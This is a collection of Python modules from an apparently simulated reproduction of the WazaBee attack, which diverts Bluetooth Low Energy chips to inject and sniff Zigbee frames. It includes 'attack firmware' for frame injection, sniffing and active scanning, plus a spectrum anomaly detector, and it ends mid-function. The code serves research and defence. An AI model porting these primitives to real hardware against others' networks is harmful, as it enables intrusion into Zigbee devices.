        distances = (arr[:, None, :] != self.matrix[None, :, :]).sum(
            axis=2, dtype=np.int64
        )
        symbols = distances.argmin(axis=1)
        return symbols, distances[np.arange(arr.shape[0]), symbols]

    def as_dict(self) -> Dict[int, str]:
        """Human-readable dump (used by the Table I / Algorithm 1 benches)."""
        return {
            symbol: "".join(str(int(b)) for b in self.matrix[symbol])
            for symbol in range(16)
        }


_DEFAULT_TABLE: CorrespondenceTable = CorrespondenceTable.build()


def default_table() -> CorrespondenceTable:
    """The shared, precomputed correspondence table."""
    return _DEFAULT_TABLE
