"""Modulation similarity metric (the paper's §VIII future work).

    "We plan to further investigate the similarities between different
    existing modulation techniques that could be exploited to perform
    WazaBee like attacks.  Defining a metric to measure such similarities
    could be useful..."

The metric implemented here is *cross-demodulation bit error rate*: scheme
A's modulator transmits a random "rotation bit" stream; scheme B's matched
receiver (quadrature discriminator at B's own symbol rate and deviation)
tries to recover it.  A pivot from a B-chip towards protocol A is viable
exactly when that BER is small enough for A's link-layer redundancy to
absorb — for 802.15.4's DSSS, roughly ≲ 15%.

Each scheme is described by its FM-domain parameters; O-QPSK with half-sine
shaping participates through its exact MSK equivalence (its "air bits" are
the per-chip rotation directions, and its transmitter maps them back to
chips before modulating).  Frequency-domain schemes that simply do not
overlap in symbol rate fail to synchronise at all and score BER 0.5 —
"the two protocols are by design vulnerable to pivoting techniques" only
*if* "the modulations are similar enough" (§VII).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np

from repro.dsp.gfsk import FskDemodulator, FskModulator, GfskConfig
from repro.dsp.msk import transitions_to_chips
from repro.dsp.oqpsk import OqpskModulator
from repro.dsp.signal import IQSignal

__all__ = [
    "ModulationScheme",
    "REFERENCE_SCHEMES",
    "cross_demodulation_ber",
    "similarity_matrix",
    "viable_pivots",
]

#: Shared simulation sample rate (must be a multiple of every symbol rate).
SAMPLE_RATE = 16e6
#: Sync prefix used for timing acquisition in the metric.
_SYNC = np.array([0, 1, 1, 0, 1, 0, 0, 1] * 6, dtype=np.uint8)


@dataclass(frozen=True)
class ModulationScheme:
    """An FM-family physical layer, as seen by a quadrature discriminator.

    ``kind`` selects the transmitter: ``"fsk"`` modulates the air bits
    directly (plain/Gaussian FSK); ``"oqpsk"`` converts them to chips and
    uses the half-sine O-QPSK modulator (exercising the actual 802.15.4
    waveform rather than its MSK idealisation).
    """

    name: str
    symbol_rate: float
    modulation_index: float = 0.5
    bt: Optional[float] = None
    kind: str = "fsk"

    def samples_per_symbol(self) -> int:
        sps = SAMPLE_RATE / self.symbol_rate
        if abs(sps - round(sps)) > 1e-9:
            raise ValueError(f"{self.name}: symbol rate must divide {SAMPLE_RATE}")
        return int(round(sps))

    def modulate(self, air_bits: np.ndarray) -> IQSignal:
        if self.kind == "oqpsk":
            chips = transitions_to_chips(air_bits, start_index=0, previous_chip=0)
            return OqpskModulator(
                samples_per_chip=self.samples_per_symbol(),
                chip_rate=self.symbol_rate,
            ).modulate(chips)
        config = GfskConfig(
            samples_per_symbol=self.samples_per_symbol(),
            modulation_index=self.modulation_index,
            bt=self.bt,
        )
        return FskModulator(config, self.symbol_rate).modulate(air_bits)

    def demodulator(self) -> FskDemodulator:
        config = GfskConfig(
            samples_per_symbol=self.samples_per_symbol(),
            modulation_index=self.modulation_index,
            bt=None,
        )
        return FskDemodulator(config, self.symbol_rate)


#: The 2.4 GHz schemes the paper's discussion ranges over.
REFERENCE_SCHEMES: Tuple[ModulationScheme, ...] = (
    ModulationScheme("BLE LE 2M (GFSK h=0.5 BT=0.5)", 2e6, 0.5, 0.5),
    ModulationScheme("BLE LE 1M (GFSK h=0.5 BT=0.5)", 1e6, 0.5, 0.5),
    ModulationScheme("802.15.4 O-QPSK half-sine (2 Mchip/s)", 2e6, 0.5, None, "oqpsk"),
    ModulationScheme("MSK 2 Mbit/s", 2e6, 0.5, None),
    ModulationScheme("Classic BT BR (GFSK h=0.32 BT=0.5)", 1e6, 0.32, 0.5),
    ModulationScheme("Proprietary 2-FSK h=1.0 (1 Mbit/s)", 1e6, 1.0, None),
)


def cross_demodulation_ber(
    tx: ModulationScheme,
    rx: ModulationScheme,
    num_bits: int = 2048,
    seed: int = 0,
    snr_db: Optional[float] = None,
) -> float:
    """BER of *rx*'s receiver reading *tx*'s waveform.

    0.5 means "no pivot" (the receiver cannot even synchronise); values
    under ~0.15 mean the pivot survives typical link-layer redundancy.
    With *snr_db* set, AWGN is added so that deviation mismatches (e.g. a
    classic-Bluetooth h=0.32 emission read by an h=0.5 receiver) cost
    measurable margin instead of hiding behind noiseless sign decisions.
    """
    rng = np.random.default_rng(seed)
    payload = rng.integers(0, 2, num_bits).astype(np.uint8)
    air_bits = np.concatenate([_SYNC, payload])
    sig = tx.modulate(air_bits)
    if snr_db is not None:
        from repro.dsp.filters import apply_filter, fir_lowpass
        from repro.dsp.impairments import awgn

        sig = awgn(sig, snr_db, rng)
        # The receiver's channel-selection filter: without it, wideband
        # noise would saturate the discriminator of narrow (low-rate)
        # schemes and the comparison would be unfair to them.
        taps = fir_lowpass(0.75 * rx.symbol_rate, SAMPLE_RATE, num_taps=65)
        sig = IQSignal(
            apply_filter(taps, sig.samples), sig.sample_rate, sig.center_frequency
        )
    demod = rx.demodulator()
    disc = demod.discriminate(sig)
    sync = demod.find_sync(disc, _SYNC, threshold=0.5)
    if sync is None:
        return 0.5
    start = sync.start + _SYNC.size * rx.samples_per_symbol()
    available = demod.available_bits(disc, start)
    count = min(num_bits, available)
    if count < num_bits // 2:
        return 0.5
    bits = demod.decide_bits(
        disc, start, count, dc=sync.dc_offset / demod.frequency_deviation
    )
    return float(np.count_nonzero(bits != payload[:count]) / count)


def similarity_matrix(
    schemes: Sequence[ModulationScheme] = REFERENCE_SCHEMES,
    num_bits: int = 2048,
    seed: int = 0,
    snr_db: Optional[float] = None,
) -> Dict[Tuple[str, str], float]:
    """Pairwise cross-demodulation BER over a set of schemes."""
    matrix: Dict[Tuple[str, str], float] = {}
    for tx in schemes:
        for rx in schemes:
            matrix[(tx.name, rx.name)] = cross_demodulation_ber(
                tx, rx, num_bits=num_bits, seed=seed, snr_db=snr_db
            )
    return matrix


def viable_pivots(
    matrix: Dict[Tuple[str, str], float], threshold: float = 0.15
) -> List[Tuple[str, str, float]]:
    """Cross-protocol pairs whose BER clears the pivot-viability bar."""
    return sorted(
        (tx, rx, ber)
        for (tx, rx), ber in matrix.items()
        if tx != rx and ber <= threshold
    )
