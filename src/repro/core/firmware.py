"""WazaBee "malicious firmware".

Ties both primitives to one compromised chip and layers the small amount of
802.15.4 logic the attack scenarios need on top: frame injection, sniffing
with MAC decoding, and active scanning (Beacon Request / Beacon collection),
mirroring the capabilities the paper demonstrates flashing onto the Gablys
tracker in §VI-C.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field
from typing import Callable, Deque, List, Optional, Sequence

from repro.core.radio_api import LowLevelRadio
from repro.core.rx import DecodedFrame, WazaBeeReceiver
from repro.core.tx import WazaBeeTransmitter
from repro.dot15d4.frames import FrameType, MacFrame, build_beacon_request
from repro.obs import FIRMWARE_DROP, MAC_RETRY
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus
from repro.radio.scheduler import Scheduler

__all__ = ["RAW_FRAME_CAP", "ScanResult", "ReliableSendResult", "WazaBeeFirmware"]

#: Retention cap for :attr:`WazaBeeFirmware.raw_frames`.  Long sniffs and
#: active scans (scenario B runs under a watchdog, not a frame budget) would
#: otherwise grow the list without bound; 4096 frames is hours of typical
#: Zigbee traffic while bounding memory.  The total ever decoded is tracked
#: separately in :attr:`WazaBeeFirmware.raw_frames_seen`.
RAW_FRAME_CAP = 4096


@dataclass
class ScanResult:
    """One network discovered by active scanning."""

    channel: int
    pan_id: int
    coordinator_address: int
    address_mode: int


@dataclass
class ReliableSendResult:
    """Outcome of a repeat-until-acknowledged injection."""

    delivered: bool
    attempts: int
    sequence_number: int


SnifferHandler = Callable[[MacFrame, DecodedFrame], None]


class WazaBeeFirmware:
    """Attack firmware running on a diverted BLE chip."""

    def __init__(self, radio: LowLevelRadio, scheduler: Scheduler):
        self.radio = radio
        self.scheduler = scheduler
        self.transmitter = WazaBeeTransmitter(radio)
        self.receiver = WazaBeeReceiver(radio)
        self._sniffer_handler: Optional[SnifferHandler] = None
        self._raw_tap: Optional[Callable[[DecodedFrame], None]] = None
        self._sniffing_channel: Optional[int] = None
        self.scan_results: List[ScanResult] = []
        #: Ring buffer of the most recent decodes (valid *and* corrupted).
        self.raw_frames: Deque[DecodedFrame] = deque(maxlen=RAW_FRAME_CAP)
        #: Monotonic count of every frame the firmware's handlers received
        #: (valid *and* corrupted), unaffected by the ring buffer evicting
        #: old entries.  Reconciles with the receiver's trace ledger as
        #: ``rx.frames.valid_delivered + rx.frames.corrupt_delivered`` for
        #: deliveries made while the sniffer was running.
        self.raw_frames_seen: int = 0
        #: How many decodes the ring buffer evicted to admit newer ones.
        #: ``len(raw_frames) + raw_frames_dropped == raw_frames_seen`` at
        #: all times — the eviction half of the raw-frame ledger.
        self.raw_frames_dropped: int = 0
        self.trace = _current_bus()
        self.metrics = _current_metrics()

    # -- injection ----------------------------------------------------------
    def send_frame(self, frame: MacFrame, channel: int) -> None:
        """Inject one 802.15.4 MAC frame on a Zigbee channel."""
        self.transmitter.configure(channel)
        self.transmitter.transmit(frame)

    def send_psdu(self, psdu: bytes, channel: int) -> None:
        self.transmitter.configure(channel)
        self.transmitter.transmit_psdu(psdu)

    def send_frame_reliable(
        self,
        frame: MacFrame,
        channel: int,
        max_attempts: int = 4,
        ack_wait_s: float = 3e-3,
        on_result: Optional[Callable[[ReliableSendResult], None]] = None,
    ) -> None:
        """Repeat-until-acknowledged injection.

        Transmits *frame* and listens for a matching 802.15.4 ACK; on
        timeout the frame is retransmitted, up to *max_attempts* total
        attempts.  *on_result* fires exactly once with the outcome.  The
        firmware's single receiver is borrowed for the ACK window, so this
        must not be interleaved with :meth:`start_sniffer`.
        """
        if max_attempts < 1:
            raise ValueError("max_attempts must be >= 1")
        seq = frame.sequence_number
        state = {"attempts": 0, "done": False, "timeout": None}

        def finish(delivered: bool) -> None:
            if state["done"]:
                return
            state["done"] = True
            if state["timeout"] is not None:
                state["timeout"].cancel()
            self.receiver.stop()
            self.metrics.counter(
                "firmware.reliable.delivered"
                if delivered
                else "firmware.reliable.undelivered"
            ).inc()
            if on_result is not None:
                on_result(
                    ReliableSendResult(
                        delivered=delivered,
                        attempts=state["attempts"],
                        sequence_number=seq,
                    )
                )

        def on_ack(decoded: DecodedFrame) -> None:
            # Defense-in-depth: the receiver only hands FCS-valid frames to
            # this (main) handler, but an ACK gate must never trust that.
            if not decoded.fcs_ok:
                return
            try:
                acked = MacFrame.parse(decoded.psdu)
            except ValueError:
                return
            if (
                acked.frame_type is FrameType.ACK
                and acked.sequence_number == seq
            ):
                finish(True)

        def attempt() -> None:
            if state["done"]:
                return
            if state["attempts"] >= max_attempts:
                self.metrics.counter("firmware.reliable.exhausted").inc()
                finish(False)
                return
            state["attempts"] += 1
            if state["attempts"] > 1:
                self.metrics.counter("firmware.reliable.retries").inc()
                if self.trace.active:
                    self.trace.emit(
                        MAC_RETRY,
                        time=self.scheduler.now,
                        source="firmware.reliable",
                        sequence=seq,
                        attempt=state["attempts"],
                    )
            self.receiver.start(channel, on_ack)
            self.send_frame(frame, channel)
            state["timeout"] = self.scheduler.schedule(ack_wait_s, attempt)

        attempt()

    # -- sniffing -------------------------------------------------------------
    def start_sniffer(
        self,
        channel: int,
        handler: SnifferHandler,
        raw_tap: Optional[Callable[[DecodedFrame], None]] = None,
    ) -> None:
        """Receive 802.15.4 frames on *channel*; MAC-decode valid ones.

        *handler* only sees FCS-valid, MAC-parseable frames.  *raw_tap*,
        when given, sees every decode — FCS-valid and corrupted alike —
        the hook Table III's corrupted-frame accounting is built on.
        """
        self._sniffer_handler = handler
        self._raw_tap = raw_tap
        self._sniffing_channel = channel
        # The receiver routes FCS-valid and FCS-failed frames to disjoint
        # handlers; the firmware funnels both into the raw stream.
        self.receiver.start(
            channel, self._on_frame, corrupt_handler=self._on_frame
        )

    def stop_sniffer(self) -> None:
        self.receiver.stop()
        self._sniffer_handler = None
        self._raw_tap = None
        self._sniffing_channel = None

    def _on_frame(self, decoded: DecodedFrame) -> None:
        if len(self.raw_frames) == self.raw_frames.maxlen:
            # The deque is about to evict its oldest decode: account for
            # it, so long sniffs never lose frames silently.
            self.raw_frames_dropped += 1
            self.metrics.counter("firmware.raw_frames_dropped").inc()
            if self.trace.active:
                self.trace.emit(
                    FIRMWARE_DROP,
                    time=self.scheduler.now,
                    dropped_total=self.raw_frames_dropped,
                    cap=self.raw_frames.maxlen,
                )
        self.raw_frames.append(decoded)
        self.raw_frames_seen += 1
        self.metrics.counter("firmware.raw_frames").inc()
        if self._raw_tap is not None:
            self._raw_tap(decoded)
        # fcs_ok re-check is defense-in-depth: the receiver already routes
        # FCS-failed frames to the corrupt path, but this method serves as
        # both targets.
        if self._sniffer_handler is None or not decoded.fcs_ok:
            return
        try:
            frame = MacFrame.parse(decoded.psdu)
        except ValueError:
            self.metrics.counter("firmware.mac_parse_failures").inc()
            return
        self.metrics.counter("firmware.sniffed_frames").inc()
        self._sniffer_handler(frame, decoded)

    # -- active scan --------------------------------------------------------------
    def active_scan(
        self,
        channels: Sequence[int],
        dwell_s: float = 0.05,
        on_complete: Optional[Callable[[List[ScanResult]], None]] = None,
    ) -> None:
        """§VI-C step 1: probe each channel with a Beacon Request.

        For every channel: transmit a Beacon Request, listen for beacons
        for *dwell_s*, record (channel, PAN id, coordinator address), then
        move on.  Results accumulate in :attr:`scan_results`;
        *on_complete* fires after the last channel.
        """
        remaining = list(channels)
        self.scan_results = []

        def scan_next() -> None:
            if not remaining:
                self.stop_sniffer()
                if on_complete is not None:
                    on_complete(self.scan_results)
                return
            channel = remaining.pop(0)
            self.stop_sniffer()
            self.start_sniffer(channel, collect)
            self.send_frame(build_beacon_request(), channel)
            self.scheduler.schedule(dwell_s, scan_next)

        def collect(frame: MacFrame, _decoded: DecodedFrame) -> None:
            from repro.dot15d4.frames import FrameType

            if frame.frame_type is not FrameType.BEACON or frame.source is None:
                return
            result = ScanResult(
                channel=self._sniffing_channel or 0,
                pan_id=frame.source.pan_id,
                coordinator_address=frame.source.address,
                address_mode=int(frame.source.mode),
            )
            if not any(
                r.channel == result.channel and r.pan_id == result.pan_id
                for r in self.scan_results
            ):
                self.scan_results.append(result)

        scan_next()
