"""Frame-level WazaBee encoding.

Bridges the per-symbol correspondence table to whole frames:

* :func:`frame_to_msk_bits` — the bit sequence the BLE GFSK modulator must
  transmit so that an 802.15.4 receiver demodulates the intended frame.
  One bit per chip period, covering the entire PPDU (preamble included).
* :func:`wazabee_access_address` — the 32-bit Access Address that makes a
  BLE receiver's sync-word correlator fire on the 802.15.4 preamble: the
  MSK encoding of one ``0000`` PN sequence plus the symbol-boundary
  transition bit (§IV-D: "The Access Address value can be set with the PN
  sequence (encoded in MSK) corresponding to the 0000 symbol").
"""

from __future__ import annotations

import numpy as np

from repro.dsp.msk import chips_to_transitions
from repro.phy.ieee802154 import CHIPS_PER_SYMBOL, PN_SEQUENCES, Ppdu
from repro.utils.bits import bits_to_int

__all__ = [
    "frame_to_msk_bits",
    "wazabee_access_address_bits",
    "wazabee_access_address",
    "MSK_STRIDE",
]

#: Received MSK bits per DSSS symbol: 31 intra-symbol transitions plus the
#: transition across the symbol boundary.
MSK_STRIDE = CHIPS_PER_SYMBOL


def frame_to_msk_bits(psdu: bytes) -> np.ndarray:
    """MSK bit sequence for a full 802.15.4 frame with the given PSDU.

    The conversion is the physics-exact stream form of Algorithm 1: one
    rotation bit per chip period.  The rotation entering the very first
    preamble chip has no defined predecessor; we fix ``previous_chip = 0``
    (any value works — the bit lands inside the preamble, where the
    receiver's correlator tolerates it).
    """
    chips = Ppdu(psdu).to_chips()
    return chips_to_transitions(chips, start_index=0, previous_chip=0)


def wazabee_access_address_bits() -> np.ndarray:
    """On-air bit pattern (32 bits) of the WazaBee Access Address.

    Equal to the MSK rotation stream over one preamble symbol, *including*
    the boundary transition from the previous preamble symbol — the 802.15.4
    preamble is periodic with period 32 chips, so this pattern repeats eight
    times and the BLE sync correlator can lock onto any repetition.
    """
    pn0 = PN_SEQUENCES[0]
    return chips_to_transitions(
        pn0, start_index=0, previous_chip=int(pn0[-1])
    )


def wazabee_access_address() -> int:
    """The Access Address as a 32-bit integer (LSB = first on-air bit)."""
    return bits_to_int(wazabee_access_address_bits(), order="lsb")
