"""Zigbee ↔ BLE channel correspondence (the paper's Table II).

Both protocols use 2 MHz-wide channels in the ISM band, but with different
grids (BLE every 2 MHz, 802.15.4 every 5 MHz), so only every other Zigbee
channel lands exactly on a BLE channel centre.  Chips that can tune
arbitrary frequencies (nRF52832) reach all 16 Zigbee channels; chips locked
to the BLE channel grid — and the high-level-API smartphone of Scenario A —
only reach the eight channels below (even channels 12–26).
"""

from __future__ import annotations

from typing import Dict, Optional, Tuple

from repro.ble.channels import (
    ALL_CHANNELS as BLE_CHANNELS,
    channel_frequency_hz as ble_frequency_hz,
)
from repro.dot15d4.channels import (
    ZIGBEE_CHANNELS,
    channel_frequency_hz as zigbee_frequency_hz,
)

__all__ = [
    "COMMON_CHANNELS",
    "ble_channel_for_zigbee",
    "zigbee_channel_for_ble",
    "reachable_zigbee_channels",
]


def _build_common() -> Dict[int, Tuple[int, float]]:
    by_freq = {ble_frequency_hz(ch): ch for ch in BLE_CHANNELS}
    table: Dict[int, Tuple[int, float]] = {}
    for zigbee in ZIGBEE_CHANNELS:
        freq = zigbee_frequency_hz(zigbee)
        ble = by_freq.get(freq)
        if ble is not None:
            table[zigbee] = (ble, freq)
    return table


#: Table II: ``{zigbee_channel: (ble_channel, frequency_hz)}``.
COMMON_CHANNELS: Dict[int, Tuple[int, float]] = _build_common()


def ble_channel_for_zigbee(zigbee_channel: int) -> Optional[int]:
    """BLE channel sharing the Zigbee channel's centre, if any."""
    entry = COMMON_CHANNELS.get(zigbee_channel)
    return entry[0] if entry else None


def zigbee_channel_for_ble(ble_channel: int) -> Optional[int]:
    """Zigbee channel sharing the BLE channel's centre, if any."""
    for zigbee, (ble, _freq) in COMMON_CHANNELS.items():
        if ble == ble_channel:
            return zigbee
    return None


def reachable_zigbee_channels(arbitrary_tuning: bool) -> Tuple[int, ...]:
    """Zigbee channels a chip can reach.

    With arbitrary frequency selection, all 16; restricted to the BLE grid,
    only the eight common channels of Table II.
    """
    if arbitrary_tuning:
        return ZIGBEE_CHANNELS
    return tuple(sorted(COMMON_CHANNELS))
