"""Exception taxonomy for the radio stack.

The simulator distinguishes three failure families:

``RadioError``
    Root of everything the radio stack raises on purpose.  Subclassing
    :class:`RuntimeError` keeps historical ``except RuntimeError`` callers
    working.
``DecodeError``
    A capture was received but could not be turned into a frame (no SFD,
    truncated PHR/PSDU, or decode confidence below threshold).  Raised only
    by the *strict* decode paths; the event-driven paths keep returning
    ``None`` so a noisy capture never tears down a receive loop.
``repro.chips.capabilities.CapabilityError``
    The chip (or its exposed API) refuses an operation — e.g. whitening
    cannot be disabled on the nRF51822's ShockBurst mode.  It subclasses
    :class:`RadioError` so capability gaps can be handled uniformly, and it
    is the *only* exception the WazaBee primitives swallow when probing
    optional radio features.
``ServiceError``
    The streaming sniffer service (``repro serve``) failed a supervision
    or flow-control contract: a subscriber overflowed its bounded ring
    under the ``block`` policy (:class:`SessionOverflow`), a session
    stopped making progress past its stall timeout
    (:class:`SessionStalled`), or a spool file is unreadable beyond its
    crash-safe truncated tail (:class:`SpoolError`).
"""

from __future__ import annotations

__all__ = [
    "RadioError",
    "DecodeError",
    "ServiceError",
    "SessionOverflow",
    "SessionStalled",
    "SpoolError",
]


class RadioError(RuntimeError):
    """Base class for deliberate radio-stack failures."""


class DecodeError(RadioError):
    """A capture could not be decoded into a frame.

    Parameters
    ----------
    reason:
        Machine-readable failure class: ``"no-sfd"``, ``"truncated"`` or
        ``"low-confidence"``.
    mean_distance:
        Mean Hamming distance of the matched blocks, when decoding got far
        enough to measure it.
    """

    def __init__(self, reason: str, mean_distance: float = 0.0):
        super().__init__(f"decode failed: {reason}")
        self.reason = reason
        self.mean_distance = mean_distance


class ServiceError(RadioError):
    """Base class for sniffer-service (``repro serve``) failures."""


class SessionOverflow(ServiceError):
    """A subscriber's bounded ring rejected a record.

    Raised only under the ``block`` backpressure policy when the producer
    waited the full stall timeout without the consumer freeing a slot —
    the signal the session supervisor converts into a disconnect.
    """

    def __init__(self, session: str, capacity: int, waited_s: float):
        super().__init__(
            f"session {session!r} ring full (capacity {capacity}) "
            f"after blocking {waited_s:.3f}s"
        )
        self.session = session
        self.capacity = capacity
        self.waited_s = waited_s


class SessionStalled(ServiceError):
    """A subscriber stopped consuming past its configured stall timeout."""

    def __init__(self, session: str, stalled_s: float):
        super().__init__(
            f"session {session!r} made no progress for {stalled_s:.3f}s"
        )
        self.session = session
        self.stalled_s = stalled_s


class SpoolError(ServiceError):
    """A spool file failed validation beyond its crash-safe partial tail."""
