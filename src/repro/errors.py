"""Exception taxonomy for the radio stack.

The simulator distinguishes three failure families:

``RadioError``
    Root of everything the radio stack raises on purpose.  Subclassing
    :class:`RuntimeError` keeps historical ``except RuntimeError`` callers
    working.
``DecodeError``
    A capture was received but could not be turned into a frame (no SFD,
    truncated PHR/PSDU, or decode confidence below threshold).  Raised only
    by the *strict* decode paths; the event-driven paths keep returning
    ``None`` so a noisy capture never tears down a receive loop.
``repro.chips.capabilities.CapabilityError``
    The chip (or its exposed API) refuses an operation — e.g. whitening
    cannot be disabled on the nRF51822's ShockBurst mode.  It subclasses
    :class:`RadioError` so capability gaps can be handled uniformly, and it
    is the *only* exception the WazaBee primitives swallow when probing
    optional radio features.
"""

from __future__ import annotations

__all__ = ["RadioError", "DecodeError"]


class RadioError(RuntimeError):
    """Base class for deliberate radio-stack failures."""


class DecodeError(RadioError):
    """A capture could not be decoded into a frame.

    Parameters
    ----------
    reason:
        Machine-readable failure class: ``"no-sfd"``, ``"truncated"`` or
        ``"low-confidence"``.
    mean_distance:
        Mean Hamming distance of the matched blocks, when decoding got far
        enough to measure it.
    """

    def __init__(self, reason: str, mean_distance: float = 0.0):
        super().__init__(f"decode failed: {reason}")
        self.reason = reason
        self.mean_distance = mean_distance
