"""Counter-measure substrate (§VII).

The paper argues for intrusion-detection systems that "monitor the physical
layers ... by monitoring signal strength on different frequency bands" and
model legitimate communications (RadIoT [32]).  This package provides that:

* :mod:`repro.ids.monitor` — a passive multi-band spectrum sentinel built
  from ordinary receiver front-ends (no protocol decoding, no access to
  simulator metadata);
* :mod:`repro.ids.detector` — a baseline-learning anomaly detector that
  flags activity on frequency bands quiet during training — exactly the
  signature a WazaBee pivot leaves when it wakes up a Zigbee channel in a
  BLE-only environment.
"""

from repro.ids.monitor import BandObservation, SpectrumSentinel
from repro.ids.detector import ActivityBaseline, AnomalyAlert, AnomalyDetector

__all__ = [
    "BandObservation",
    "SpectrumSentinel",
    "ActivityBaseline",
    "AnomalyAlert",
    "AnomalyDetector",
]
