"""Passive multi-band spectrum monitoring.

One cheap receiver front-end per monitored band; whenever energy lands in a
band, the sentinel records a :class:`BandObservation` (time, band, power,
duration).  No demodulation, no protocol knowledge — the §VII premise is
that defenders may not even run the protocols they need to watch.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np

from repro.dsp.signal import IQSignal
from repro.radio.medium import RfMedium, Transmission
from repro.radio.transceiver import Transceiver

__all__ = ["BandObservation", "SpectrumSentinel"]


@dataclass(frozen=True)
class BandObservation:
    """Energy detected in one monitored band."""

    time: float
    band_hz: float
    power_dbm: float
    duration_s: float


class SpectrumSentinel:
    """A bank of energy detectors across configurable RF bands.

    Parameters
    ----------
    medium:
        The RF medium to listen on.
    bands_hz:
        Band centre frequencies to monitor (e.g. all Zigbee channels plus
        all BLE channels).
    position:
        Where the probe antenna sits.
    detection_threshold_dbm:
        Bands quieter than this are ignored (thermal floor margin).
    """

    def __init__(
        self,
        medium: RfMedium,
        bands_hz: Sequence[float],
        position: Tuple[float, float] = (0.0, 0.0),
        name: str = "ids-sentinel",
        detection_threshold_dbm: float = -85.0,
        bandwidth_hz: float = 2e6,
    ):
        self.medium = medium
        self.detection_threshold_dbm = detection_threshold_dbm
        self.observations: List[BandObservation] = []
        self._probes: List[Transceiver] = []
        for i, band in enumerate(bands_hz):
            probe = Transceiver(
                medium,
                name=f"{name}-{band / 1e6:.0f}MHz",
                position=position,
                bandwidth_hz=bandwidth_hz,
            )
            probe.tune(band)
            self._probes.append(probe)

    def start(self) -> None:
        for probe in self._probes:
            probe.start_rx(self._make_handler(probe))

    def stop(self) -> None:
        for probe in self._probes:
            probe.stop_rx()

    def _make_handler(self, probe: Transceiver):
        def handler(capture: IQSignal, _tx: Transmission) -> None:
            power = capture.power()
            if power <= 0.0:
                return
            power_dbm = 10.0 * np.log10(power)
            if power_dbm < self.detection_threshold_dbm:
                return
            self.observations.append(
                BandObservation(
                    time=self.medium.scheduler.now,
                    band_hz=probe.tuned_hz,
                    power_dbm=float(power_dbm),
                    duration_s=capture.duration,
                )
            )

        return handler

    # -- summaries -----------------------------------------------------------
    def activity_by_band(self) -> Dict[float, int]:
        """Observation counts per band."""
        counts: Dict[float, int] = {}
        for obs in self.observations:
            counts[obs.band_hz] = counts.get(obs.band_hz, 0) + 1
        return counts

    def observations_since(self, time: float) -> List[BandObservation]:
        return [obs for obs in self.observations if obs.time >= time]

    def clear(self) -> None:
        self.observations = []
