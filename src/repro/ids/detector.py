"""Baseline-learning anomaly detection over band activity.

Training phase: observe the legitimate environment and record, per band,
the activity rate and power distribution.  Detection phase: score new
observation windows against the baseline; alert when

* a band that was quiet during training becomes active (a WazaBee pivot
  waking up a Zigbee channel in a BLE-only site — or vice versa), or
* the activity rate or mean received power on a known band departs from
  its baseline by more than ``sigma_threshold`` standard deviations, or
* individual emissions are power outliers at a rate far above what the
  baseline spread explains (a spoofing device at a different location /
  power than the legitimate node, interleaved with its traffic).

This follows the modelling-legitimate-communications approach the paper
cites ([32], [33]); it is deliberately protocol-agnostic.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Sequence

import numpy as np

from repro.ids.monitor import BandObservation

__all__ = ["ActivityBaseline", "AnomalyAlert", "AnomalyDetector"]


@dataclass
class ActivityBaseline:
    """Per-band legitimate-traffic statistics."""

    rate_per_s: float
    power_mean_dbm: float
    power_std_dbm: float
    samples: int


@dataclass(frozen=True)
class AnomalyAlert:
    """One detected deviation."""

    band_hz: float
    kind: str  # "new-band" | "rate" | "power"
    detail: str
    severity: float


class AnomalyDetector:
    """Learns a baseline and scores observation windows against it."""

    def __init__(
        self,
        sigma_threshold: float = 3.0,
        min_rate_ratio: float = 3.0,
        outlier_fraction: float = 0.2,
    ):
        self.sigma_threshold = sigma_threshold
        self.min_rate_ratio = min_rate_ratio
        self.outlier_fraction = outlier_fraction
        self.baselines: Dict[float, ActivityBaseline] = {}
        self._trained_duration = 0.0

    # -- training ---------------------------------------------------------
    def train(
        self, observations: Sequence[BandObservation], duration_s: float
    ) -> None:
        """Learn the legitimate model from a training capture."""
        if duration_s <= 0:
            raise ValueError("training duration must be positive")
        by_band: Dict[float, List[BandObservation]] = {}
        for obs in observations:
            by_band.setdefault(obs.band_hz, []).append(obs)
        self.baselines = {}
        for band, items in by_band.items():
            powers = np.array([o.power_dbm for o in items])
            self.baselines[band] = ActivityBaseline(
                rate_per_s=len(items) / duration_s,
                power_mean_dbm=float(powers.mean()),
                power_std_dbm=float(powers.std()) if len(items) > 1 else 1.0,
                samples=len(items),
            )
        self._trained_duration = duration_s

    @property
    def is_trained(self) -> bool:
        return self._trained_duration > 0.0

    # -- detection ----------------------------------------------------------
    def score(
        self, observations: Sequence[BandObservation], duration_s: float
    ) -> List[AnomalyAlert]:
        """Evaluate a detection window; returns alerts (possibly empty)."""
        if not self.is_trained:
            raise RuntimeError("detector must be trained first")
        if duration_s <= 0:
            raise ValueError("window duration must be positive")
        alerts: List[AnomalyAlert] = []
        by_band: Dict[float, List[BandObservation]] = {}
        for obs in observations:
            by_band.setdefault(obs.band_hz, []).append(obs)
        for band, items in by_band.items():
            rate = len(items) / duration_s
            baseline = self.baselines.get(band)
            if baseline is None:
                alerts.append(
                    AnomalyAlert(
                        band_hz=band,
                        kind="new-band",
                        detail=(
                            f"{len(items)} emissions on {band / 1e6:.0f} MHz, "
                            "a band with no legitimate activity"
                        ),
                        severity=float(len(items)),
                    )
                )
                continue
            if baseline.rate_per_s > 0 and rate > baseline.rate_per_s * self.min_rate_ratio:
                alerts.append(
                    AnomalyAlert(
                        band_hz=band,
                        kind="rate",
                        detail=(
                            f"activity rate {rate:.2f}/s vs baseline "
                            f"{baseline.rate_per_s:.2f}/s"
                        ),
                        severity=rate / baseline.rate_per_s,
                    )
                )
            powers = np.array([o.power_dbm for o in items])
            sigma = max(baseline.power_std_dbm, 0.5)
            deviation = abs(float(powers.mean()) - baseline.power_mean_dbm) / sigma
            if deviation > self.sigma_threshold:
                alerts.append(
                    AnomalyAlert(
                        band_hz=band,
                        kind="power",
                        detail=(
                            f"mean power {powers.mean():.1f} dBm vs baseline "
                            f"{baseline.power_mean_dbm:.1f}±{sigma:.1f} dBm"
                        ),
                        severity=deviation,
                    )
                )
            outliers = np.abs(powers - baseline.power_mean_dbm) > (
                self.sigma_threshold * sigma
            )
            fraction = float(outliers.mean())
            if fraction > self.outlier_fraction and outliers.sum() >= 2:
                alerts.append(
                    AnomalyAlert(
                        band_hz=band,
                        kind="power-outliers",
